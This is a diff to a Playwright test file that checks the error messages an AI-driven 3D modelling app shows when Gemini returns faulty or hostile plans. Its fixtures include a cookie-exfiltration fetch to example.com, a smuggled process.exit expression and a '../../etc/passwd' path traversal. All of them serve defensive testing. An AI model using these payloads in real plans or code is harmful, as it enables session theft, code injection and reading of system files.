@@ -35,7 +35,11 @@ const error = (status: number, message: string, code = ''): Move => ({ raw: { st
 
 /** Each with what the artist is told: what happened and what to do. */
 const CASES: readonly (readonly [title: string, move: Move, told: RegExp])[] = [
-  ['a wrong key', error(401, 'API key not valid. Please pass a valid API key.', 'invalid_api_key'), /Gemini .*key/],
+  [
+    'a wrong key',
+    error(401, 'API key not valid. Please pass a valid API key.', 'invalid_api_key'),
+    /Gemini refuses the key: check it in Settings\./,
+  ],
   [
     'an unknown model',
     error(404, 'models/gemini-3-flash is not found for API version v1beta', 'NOT_FOUND'),
@@ -44,15 +48,19 @@ const CASES: readonly (readonly [title: string, move: Move, told: RegExp])[] = [
   [
     'an address that is a web page',
     { raw: { status: 200, headers: { 'content-type': 'text/html' }, body: '<!doctype html><html><h1>Hi</h1></html>' } },
-    /Gemini .*address/,
+    /is a web page and not Gemini: check the address/,
   ],
   ['prose', said('I would take a nice cube, and then a lid for it.'), /Gemini wrote no plan: choose another model\./],
-  ['half a plan', { said: { text: LIDDED, pieces: 40, usage: USAGE }, cut: { after: 25, how: 'end' } }, /Gemini broke off/],
+  [
+    'half a plan',
+    { said: { text: LIDDED, pieces: 40, usage: USAGE }, cut: { after: 25, how: 'end' } },
+    /The answer of Gemini broke off before its end: try again\./,
+  ],
   ['another schema', said('{"shapes":[{"type":"sphere","r":3}],"camera":{"fov":40}}'), /Gemini wrote no plan: choose another model\./],
   [
     'an answer without end',
     { said: { text: `{"name":"${'a'.repeat(400_000)}"`, pieces: 4, usage: USAGE }, endless: true },
-    /without end|longer/,
+    /Gemini wrote no plan: choose another model\.|longer than one request|without end/,
   ],
   [
     'a model that says nothing',
@@ -67,14 +75,18 @@ const CASES: readonly (readonly [title: string, move: Move, told: RegExp])[] = [
   [
     'a plan with code in it',
     said(plan({ id: 'a', op: 'eval', params: { code: 'fetch("https://example.com/"+document.cookie)' } })),
-    /"eval"/,
+    /no operation "eval"\. Say it in other words, or choose another model\./,
   ],
   [
     'a plan with a script for a size',
     said(plan({ id: 'a', op: 'box', params: { size: ['= process.exit(1)', 20, 20] } })),
-    /size|expression|process/,
+    /There is no function "process\.exit".* Say it in other words, or choose another model\./,
   ],
-  ['a plan with paths in it', said(plan({ id: 'a', op: 'import_file', params: { path: '../../etc/passwd' } })), /"import_file"/],
+  [
+    'a plan with paths in it',
+    said(plan({ id: 'a', op: 'import_file', params: { path: '../../etc/passwd' } })),
+    /no operation "import_file"\. Say it in other words, or choose another model\./,
+  ],
 ];
 
 test.beforeEach(async ({ gemini, page }) => {
@@ -100,7 +112,7 @@ for (const [title, move, told] of CASES)
 test('where a model cannot be reached, the sentence says so, and the offline generator still answers', async ({ page, aura, gemini }) => {
   gemini.always = { reset: true };
   const turn = await aura.say('a cube of 20 mm');
-  await expect(turn.locator('.error')).toHaveText(/Gemini .*network|Gemini .*reach|Gemini .*connection/);
+  await expect(turn.locator('.error')).toHaveText(/Gemini does not answer at .*: check the network\./);
   await aura.picture('chat-unreachable');
   await page.getByTestId('aura-writer').selectOption('auto');
   const made = await aura.make('a cube of 20 mm');
